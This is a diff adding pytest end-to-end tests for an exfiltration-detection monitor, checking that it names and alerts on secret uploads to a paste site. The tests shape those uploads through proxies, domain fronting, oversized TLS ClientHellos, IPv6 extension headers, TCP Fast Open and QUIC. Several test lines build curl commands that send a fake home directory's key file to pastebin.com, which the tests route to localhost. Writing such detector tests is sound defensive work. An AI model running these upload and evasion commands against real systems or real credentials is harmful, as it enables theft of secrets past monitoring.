@@ -10,9 +10,9 @@ import subprocess
 
 import pytest
 
-from harness import Scenario, as_list, assert_silent, check_service_saw, execute, get, is_action
-from harness import paths
-from harness.config import HTTPS_PORT
+from harness import ConnectProxy, Scenario, as_list, assert_silent, check_service_saw, execute, get
+from harness import is_action, paths
+from harness.config import HTTP_PORT, HTTPS_PORT, PROXY_PORT
 
 from test_scenarios import run_attack, wait_for_evidence
 
@@ -815,3 +815,207 @@ def test_io_uring_write_into_a_pipe(monitor, uring_read):
     finish(writer, reader)
     assert_same_channel(monitor, writer.pid, reader.pid, "pipe", 8000)
     assert get(io_records(monitor, writer.pid, "write", "pipe")[0], "exfilwatch.object.fd") == -1
+
+
+# --- Class: names an attacker cannot pick cheaply ---------------------------------------------
+# The flow is named by what its own client sends, however it is shaped: through a proxy (the
+# CONNECT target, an absolute URI's host, and the ClientHello tunnelled through it), a
+# ClientHello over 16 KiB, IPv6 extension headers, and TCP Fast Open. Each attack alerts with the
+# paste site's sub-technique and its name; each twin (the same shape, no secret) is named too and
+# stays silent.
+
+NAMED = "pastebin.com"  # a paste site (T1567.003) the stand-in serves
+FRONT = "cdn.example.net"  # a harmless name to put in front of it
+TLS_UPLOAD = paths.TOOLS_DIR / "tls_upload.py"
+HARMLESS = "/etc/os-release"
+
+
+@pytest.fixture(scope="module")
+def naming_proxy(tmp_path_factory):
+    """A proxy of this module's own (next to E2E_PROXY_PORT) that also forwards plain HTTP."""
+    listen = f"127.0.0.1:{PROXY_PORT + 1}"
+    names = {NAMED: "127.0.0.1", FRONT: "127.0.0.1", "upload.example.org": "127.0.0.1"}
+    with ConnectProxy(tmp_path_factory.mktemp("naming-proxy"), listen=listen, names=names,
+                      forward_plain=True) as running:
+        yield running
+
+
+def named_alerts(monitor, port, domain=NAMED, technique="T1567.003"):
+    found = [r for r in monitor.records()
+             if get(r, "event.action") == "exfiltration-suspected"
+             and get(r, "destination.port") == port and get(r, "destination.domain") == domain
+             and technique in as_list(get(r, "threat.technique.subtechnique.id", []))]
+    assert found, (f"no {technique} alert to {domain}:{port}: "
+                   f"{[(get(r, 'destination.domain'), get(r, 'destination.port')) for r in monitor.records() if get(r, 'event.kind') == 'alert']}")
+    return found
+
+
+def hello_named(monitor, port, name=NAMED, process=None):
+    """The tls-client-hello records to `port` with SNI `name` (by `process`, when given)."""
+    return [r for r in monitor.records()
+            if get(r, "event.action") == "tls-client-hello"
+            and get(r, "destination.port") == port and get(r, "tls.client.server_name") == name
+            and (process is None or str(get(r, "process.name")).startswith(process))]
+
+
+def named_attack(monitor, standin, fake_home, tmp_path, name, shell, port, *, service=True,
+                 domain=NAMED):
+    scenario = Scenario(name, "alert", shell, technique="T1567.003",
+                        domain=domain if service else "", uploads=True)
+    run_attack(scenario, monitor, standin, fake_home, tmp_path)
+    assert_no_secret(monitor, key_of(fake_home))
+    return named_alerts(monitor, port, domain)
+
+
+def named_silent(monitor, standin, fake_home, tmp_path, name, shell, port, *, service=True,
+                 domain=NAMED):
+    """Runs the twin, waits for its flow named `domain` (the name was found), and asserts no
+    alert of this test (to `port`, or naming this test's directory)."""
+    scenario = Scenario(name, "silent", shell, domain=domain if service else "", uploads=True)
+    execute(scenario, fake_home, tmp_path, HTTPS_PORT)
+    check_service_saw(scenario, standin)
+    monitor.wait_for(lambda r: get(r, "event.action") == "flow-summary"
+                     and get(r, "destination.port") == port
+                     and get(r, "destination.domain") == domain
+                     and get(r, "process.pid") != standin.pid,
+                     WAIT_S, f"a flow-summary to {domain}:{port}")
+    monitor.stop()
+    assert_silent([r for r in monitor.records()
+                   if get(r, "destination.port") == port or str(tmp_path) in json.dumps(r)])
+
+
+@pytest.mark.parametrize("spelling", ["flag", "env"])
+def test_upload_through_a_connect_proxy_is_named_by_its_target(monitor, standin, proxy, fake_home,
+                                                              tmp_path, spelling):
+    # The flow goes to the proxy; the CONNECT target and the ClientHello through the tunnel
+    # both name pastebin.com, and that is the alert's destination (not the proxy).
+    key = key_of(fake_home)
+    upload = f"curl -sk -T {key} https://{NAMED}:8443/"
+    shell = (upload.replace("curl ", f"curl -x {proxy.url} ") if spelling == "flag"
+             else f"https_proxy={proxy.url} {upload}")
+    named_attack(monitor, standin, fake_home, tmp_path, f"proxy-{spelling}", shell, PROXY_PORT)
+    assert hello_named(monitor, PROXY_PORT, process="curl"), "no tunnelled ClientHello seen"
+
+
+def test_fronting_through_a_proxy_is_named_by_the_tunnelled_sni(monitor, standin, naming_proxy,
+                                                               fake_home, tmp_path):
+    # CONNECT names a harmless host; the TLS inside the tunnel names the paste site: the
+    # riskier name counts.
+    key = key_of(fake_home)
+    port = PROXY_PORT + 1
+    shell = (f"curl -sk -x {naming_proxy.url} --connect-to {NAMED}:8443:{FRONT}:8443 "
+             f"-T {key} https://{NAMED}:8443/")
+    named_attack(monitor, standin, fake_home, tmp_path, "proxy-fronting", shell, port)
+    assert any(t.get("kind") == "connect" and t.get("target") == f"{FRONT}:{HTTPS_PORT}"
+               for t in naming_proxy.tunnels()), naming_proxy.tunnels()
+    assert hello_named(monitor, port, process="curl")
+
+
+def test_absolute_uri_through_a_plain_http_proxy(monitor, standin, naming_proxy, fake_home,
+                                                 tmp_path):
+    key = key_of(fake_home)
+    shell = (f"curl -s -x {naming_proxy.url} --data-binary @{key} "
+             f"http://{NAMED}:{HTTP_PORT}/api/post")
+    named_attack(monitor, standin, fake_home, tmp_path, "plain-proxy", shell, PROXY_PORT + 1)
+    assert any(t.get("kind") == "forward" for t in naming_proxy.tunnels())
+
+
+def test_everyday_post_through_a_proxy_is_silent(monitor, standin, naming_proxy, fake_home,
+                                                 tmp_path):
+    # The same fronted tunnel, carrying a file that is no secret: named, and silent.
+    shell = (f"curl -sk -x {naming_proxy.url} --connect-to {NAMED}:8443:{FRONT}:8443 "
+             f"-T {HARMLESS} https://{NAMED}:8443/")
+    named_silent(monitor, standin, fake_home, tmp_path, "proxy-twin", shell, PROXY_PORT + 1)
+
+
+def tls_upload(*options):
+    return " ".join([str(paths.PYTHON), str(TLS_UPLOAD), "--sni", NAMED, *map(str, options)])
+
+
+def test_client_hello_over_16_kib_still_names_the_flow(monitor, standin, fake_home, tmp_path):
+    # 100 ALPN names of 200 bytes: OpenSSL sends a 20 KB ClientHello in two records, over many
+    # segments.
+    shell = tls_upload("--alpn-pad", 100, "--file", key_of(fake_home), "127.0.0.1", HTTPS_PORT)
+    named_attack(monitor, standin, fake_home, tmp_path, "big-hello", shell, HTTPS_PORT)
+    assert hello_named(monitor, HTTPS_PORT, process="python")
+
+
+def test_client_hello_over_16_kib_twin_is_silent(monitor, standin, fake_home, tmp_path):
+    shell = tls_upload("--alpn-pad", 100, "--file", HARMLESS, "127.0.0.1", HTTPS_PORT)
+    named_silent(monitor, standin, fake_home, tmp_path, "big-hello-twin", shell, HTTPS_PORT)
+    assert hello_named(monitor, HTTPS_PORT, process="python")
+
+
+@pytest.mark.parametrize("ext", ["hop", "dst"])
+def test_ipv6_extension_headers_hide_nothing(monitor, standin, fake_home, tmp_path, ext):
+    key = key_of(fake_home)
+    shell = tls_upload("--ipv6-ext", ext, "--file", key, "::1", HTTPS_PORT)
+    named_attack(monitor, standin, fake_home, tmp_path, f"ipv6-{ext}", shell, HTTPS_PORT)
+    assert hello_named(monitor, HTTPS_PORT, process="python")
+    flows = [r for r in monitor.records()
+             if is_action("flow-summary", {"destination.ip": "::1", "destination.domain": NAMED})(r)
+             and str(get(r, "process.name")).startswith("python")
+             and get(r, "source.bytes", 0) >= os.stat(key).st_size]
+    assert flows, "no flow-summary over IPv6 carrying the key's bytes"
+
+
+def test_ipv6_extension_headers_twin_is_silent(monitor, standin, fake_home, tmp_path):
+    shell = tls_upload("--ipv6-ext", "dst", "--file", HARMLESS, "::1", HTTPS_PORT)
+    named_silent(monitor, standin, fake_home, tmp_path, "ipv6-twin", shell, HTTPS_PORT)
+
+
+def fast_open(standin, body):
+    # A private network namespace of its own (the host's Fast Open sysctl is untouched) with the
+    # TLS server in the same process: the client's ClientHello rides in the SYN.
+    sysctl = 0x1 | 0x2 | 0x4 | 0x200  # client, server, no cookie either way
+    client = tls_upload("--fastopen", "--serve-cert", standin.cert, "--serve-key", standin.key,
+                        "--file", body, "127.0.0.1", HTTPS_PORT)
+    return (f"unshare -n bash -c 'ip link set lo up && echo {sysctl} > "
+            f"/proc/sys/net/ipv4/tcp_fastopen && exec {client}'")
+
+
+def test_tcp_fast_open_client_hello_names_the_flow(monitor, standin, fake_home, tmp_path):
+    shell = fast_open(standin, key_of(fake_home))
+    named_attack(monitor, standin, fake_home, tmp_path, "fast-open", shell, HTTPS_PORT,
+                 service=False)
+    assert hello_named(monitor, HTTPS_PORT, process="python")
+
+
+def test_tcp_fast_open_twin_is_silent(monitor, standin, fake_home, tmp_path):
+    named_silent(monitor, standin, fake_home, tmp_path, "fast-open-twin",
+                 fast_open(standin, HARMLESS), HTTPS_PORT, service=False)
+
+
+# QUIC (UDP): the client Initials are decrypted (their keys derive from the packet) and the
+# ClientHello in their CRYPTO frames names the flow. Debian 12 packages no QUIC client, so the
+# first flight is built by tests/e2e/tools/quic_initial.py: genuine RFC 9001 Initials (v1, or v2
+# of RFC 9369), then the file as short-header datagrams of ciphertext.
+QUIC_TOOL = paths.TOOLS_DIR / "quic_initial.py"
+QUIC_SHAPES = {"v1": [], "v1-split": ["--split"], "v2": ["--version", 2]}
+
+
+def quic_upload(shape, body):
+    return " ".join([str(paths.PYTHON), str(QUIC_TOOL), "--sni", NAMED, "--file", str(body),
+                     *map(str, QUIC_SHAPES[shape]), "--serve", "127.0.0.1", str(HTTPS_PORT)])
+
+
+def quic_flows(monitor):
+    return [r for r in monitor.records()
+            if is_action("flow-summary", {"network.transport": "udp", "destination.domain": NAMED,
+                                          "destination.port": HTTPS_PORT})(r)
+            and str(get(r, "process.name")).startswith("python")]
+
+
+@pytest.mark.parametrize("shape", sorted(QUIC_SHAPES))
+def test_quic_initial_names_the_flow(monitor, standin, fake_home, tmp_path, shape):
+    key = key_of(fake_home)
+    named_attack(monitor, standin, fake_home, tmp_path, f"quic-{shape}",
+                 quic_upload(shape, key), HTTPS_PORT, service=False)
+    assert hello_named(monitor, HTTPS_PORT, process="python")
+    assert any(get(r, "source.bytes", 0) >= os.stat(key).st_size for r in quic_flows(monitor))
+
+
+def test_quic_twin_is_silent(monitor, standin, fake_home, tmp_path):
+    named_silent(monitor, standin, fake_home, tmp_path, "quic-twin",
+                 quic_upload("v1-split", HARMLESS), HTTPS_PORT, service=False)
+    assert quic_flows(monitor)
